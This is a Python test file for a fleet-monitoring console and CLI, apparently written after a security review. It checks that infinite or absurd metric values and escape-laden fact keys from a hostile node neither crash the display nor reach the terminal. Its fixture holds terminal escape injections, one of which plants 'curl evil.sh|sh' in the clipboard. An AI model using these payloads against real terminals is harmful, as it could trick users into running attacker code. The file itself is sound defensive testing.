"""A hostile node against the console and `dvic node` (security review L1, M4): non-finite and
absurd numbers never crash them, and fact keys never reach the terminal with escape sequences."""

from __future__ import annotations

import time

from textual.pilot import Pilot
from textual.widgets import Sparkline, Static

from tests.support.cli import run_dvic, server_env
from tests.support.nodes import connected, greeted, online_node
from tests.support.server import CentralServer
from tests.support.wait import async_wait_for
from tests.tui.pilot import make_app, open_node
from tui import fmt
from tui.cmds.fleet import describe_node
from tui.console.app import DvicApp
from tui.console.screens.node import NodeScreen
from tui.console.widgets.chart import MetricChart

HOSTILE_KEYS = {
    "\x1b]52;c;Y3VybCBldmlsLnNofHNoCg==\x07": "x",  # OSC 52: the clipboard := "curl evil.sh|sh"
    "\x1b]0;PWNED\x07": "y",  # OSC 0: the window title
    "\x1bc": "reset",  # ESC c: resets the terminal
}
INF, NAN = float("inf"), float("nan")


def facts_text(screen: NodeScreen) -> str:
    return str(screen.query_one("#facts", Static).render())


async def loaded_node_page(app: DvicApp, pilot: Pilot[object], node_id: str) -> NodeScreen:
    """The node's page with what the server answered shown (facts and charts)."""
    screen = await open_node(app, pilot, node_id)
    await async_wait_for(lambda: "Host" in facts_text(screen) and "now " in label(screen, "cpu"),
                         what="the page loaded")
    return screen


def label(screen: NodeScreen, metric: str) -> str:
    return str(screen.query_one(f"#label-{metric}").render())


def spark(screen: NodeScreen, metric: str) -> list[float]:
    return list(screen.query_one(f"#spark-{metric}", Sparkline).data or [])


# -- L1: the chart skips what it cannot draw --------------------------------------------------------
async def test_node_page_skips_non_finite_and_absurd_points(shared_server: CentralServer) -> None:
    """What an older server answered (the review's l1_console.py crashed the console with it). Today's
    server refuses such values (the next test), so they are handed to the page as its loads do."""
    now = int(time.time())
    cpu = [[now - 300, 1.0, INF, 1e308], [now - 240, -1e308, 1e308, 1e308], [now - 180, 5.0, 10.0, 20.0],
           [now - 120, NAN, NAN, NAN], [now - 90, 10**400, 10**400, 10**400], [now - 60, 6.0, 12.0, 24.0]]
    mem = [[now - 120, INF, INF, INF], [now - 60, -INF, -INF, -INF]]
    async with online_node(shared_server, "pi-inf") as node:
        app = make_app(shared_server)
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await loaded_node_page(app, pilot, node.bundle["node_id"])
            screen.query_one("#chart-cpu", MetricChart).set_points(cpu)
            screen.query_one("#chart-mem", MetricChart).set_points(mem)
            screen.detail = {**screen.detail, "sample": {"type": "metrics", "ts": now, "uptime": INF, "procs": 10**400},
                             "facts": {**screen.detail["facts"], "boot_time": 1e308}}
            screen._show_facts()
            await pilot.pause()  # let the sparklines draw
            assert spark(screen, "cpu") == [10.0, 12.0]
            assert "min 5%" in label(screen, "cpu") and "max 24%" in label(screen, "cpu")
            assert "no data" in label(screen, "mem") and spark(screen, "mem") == []
            assert "Uptime     -\n" in facts_text(screen)  # an infinite uptime: unknown, not a traceback
            assert app.is_running and app.screen is screen
            app.export_screenshot()  # renders every widget once more


def test_formatting_absurd_times_does_not_raise() -> None:
    assert fmt.stamp(1e308) == "?" and fmt.stamp(-1e308) == "?" and fmt.stamp(NAN) == "?"
    assert fmt.duration(INF) == "-" and fmt.duration(NAN) == "-"
    assert fmt.stamp(0) != "?"


async def test_real_server_samples_that_overflowed_do_not_crash_the_console(shared_server: CentralServer) -> None:
    """l1.py + l1_console.py against the real server: the samples are refused, the page opens."""
    server = shared_server
    bundle = server.enroll("pi-l1")
    now = time.time()
    minute = now - now % 60
    for ts in (minute - 30, minute + 1, minute + 2):  # two in one minute: their average overflowed
        async with greeted(bundle) as node:
            await node.send({"type": "metrics", "ts": ts, "cpu": {"total": 1e308}})
    async with connected(bundle) as node:  # says hello and sends a normal sample (cpu 12.5)
        app = make_app(server)
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await open_node(app, pilot, bundle["node_id"])
            await async_wait_for(lambda: "now 12%" in label(screen, "cpu") or "now 13%" in label(screen, "cpu"),
                                 what="the cpu chart")
            await pilot.pause()
            assert app.is_running and app.screen is screen
            assert all(v < 100 for v in spark(screen, "cpu"))
        await node.close()


# -- M4: fact keys are cleaned like values --------------------------------------------------------
# Today's server drops such keys (the last test); a server from before that fix kept them.
async def test_node_page_cleans_fact_keys(shared_server: CentralServer) -> None:
    async with online_node(shared_server, "pi-keys") as node:
        app = make_app(shared_server)
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await loaded_node_page(app, pilot, node.bundle["node_id"])
            screen.detail = {**screen.detail, "facts": {**screen.detail["facts"], **HOSTILE_KEYS}}
            screen._show_facts()
            await async_wait_for(lambda: "reset" in facts_text(screen), what="the hostile facts")
            text = facts_text(screen)
            assert "\x1b" not in text and "\x07" not in text
            assert " reset\n" in text and " x\n" in text  # the values, under keys whose sequences were removed
            assert "\x1b" not in app.export_screenshot()


async def test_dvic_node_cleans_fact_keys(shared_server: CentralServer) -> None:
    async with online_node(shared_server, "pi-keys-cli"):
        detail = shared_server.node("pi-keys-cli")
    # As such a server answered `dvic node`: the node's facts with its keys, and an absurd boot time.
    detail["facts"].update(HOSTILE_KEYS, boot_time=1e308)
    out = describe_node(detail, time.time())
    assert "\x1b" not in out and "\x07" not in out
    assert "fact boot_time" in out and "?" in out  # absurd: shown as "?", not a traceback
    assert {line.split()[-1] for line in out.splitlines() if line.startswith("fact ")} >= {"x", "y", "reset"}


async def test_hostile_fact_keys_from_a_real_node_reach_no_terminal(shared_server: CentralServer,
                                                                  dvic_env: dict[str, str]) -> None:
    """The review's m4.py, then `dvic node` and the console's node page."""
    server = shared_server
    bundle = server.enroll("node-c")
    async with connected(bundle, **HOSTILE_KEYS, model="\x1b]0;value\x07 [red]v[/red]"):
        res = await run_dvic(server_env(dvic_env, server), "node", "node-c")
        assert res.code == 0, res.err
        assert "\x1b" not in res.out and "\x07" not in res.out and "[red]v[/red]" in res.out
        app = make_app(server)
        async with app.run_test(size=(160, 48)) as pilot:
            screen = await open_node(app, pilot, bundle["node_id"])
            await async_wait_for(lambda: "[red]v[/red]" in facts_text(screen), what="facts")
            assert "\x1b" not in facts_text(screen) and "\x07" not in facts_text(screen)
            assert "\x1b" not in app.export_screenshot()
